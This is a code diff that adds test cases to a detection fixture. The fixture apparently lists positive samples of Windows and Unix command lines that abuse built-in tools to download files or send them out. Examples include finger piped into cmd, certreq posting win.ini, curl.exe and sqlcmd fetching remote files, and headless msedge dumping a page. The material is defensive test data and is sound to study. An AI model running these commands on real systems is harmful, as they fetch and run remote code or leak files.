@@ -53,6 +53,12 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
     ("TWN-312", BAT, "certreq.exe -Post -config https://example.org c:\\windows\\win.ini out.txt"),
     ("TWN-312", BAT, "desktopimgdownldr.exe /lockscreenurl:https://192.0.2.10/a.jpg /eventName:x"),
     ("TWN-312", BAT, "finger user@192.0.2.10 | more +2 | cmd"),
+    ("TWN-312", BAT, "sqlcmd -i https://192.0.2.10/a.txt -o C:\\Users\\Public\\a.txt"),
+    (
+        "TWN-312",
+        BAT,
+        "msedge.exe --headless --enable-logging --disable-gpu --dump-dom https://x.example",
+    ),
     ("TWN-313", SH, 'nscurl -k "https://example.org/a.txt" -o "a.txt"'),
     ("TWN-313", SH, 'whois -h 192.0.2.10 -p 8443 "a.txt" > /tmp/a.txt'),
     ("TWN-314", BAT, "curl.exe -k https://192.0.2.10/a.exe -o %TEMP%\\a.exe"),
